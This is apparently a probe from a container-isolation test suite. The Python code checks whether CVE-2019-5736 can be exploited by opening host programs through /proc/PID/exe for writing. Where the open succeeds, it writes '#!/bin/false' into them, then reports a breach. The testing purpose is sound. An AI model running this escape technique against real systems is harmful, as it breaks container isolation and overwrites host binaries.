# threat: T1
# tries: overwrite a running program of the host through /proc/PID/exe (CVE-2019-5736)
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
    path = f"/proc/{pid}/exe"
    try:
        print(path, os.readlink(path))
    except OSError as error:
        print(path, error.strerror)
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        try:
            fd = os.open(path, flags)
        except OSError as error:
            print(path, error.strerror)
            continue
        breach("opened for writing", path)
        try:
            os.write(fd, b"#!/bin/false\n")
        except OSError:
            pass
pid = os.fork()
if pid == 0:
    os.execv("/usr/bin/env", ["env", "sleep", "0.2"])
fd = os.open(f"/proc/{pid}/exe", os.O_PATH)
os.waitpid(pid, 0)
for _ in range(100):
    try:
        os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
        breach("a host program could be opened for writing")
    except OSError as error:
        last = error.strerror
print(last)
print("END")
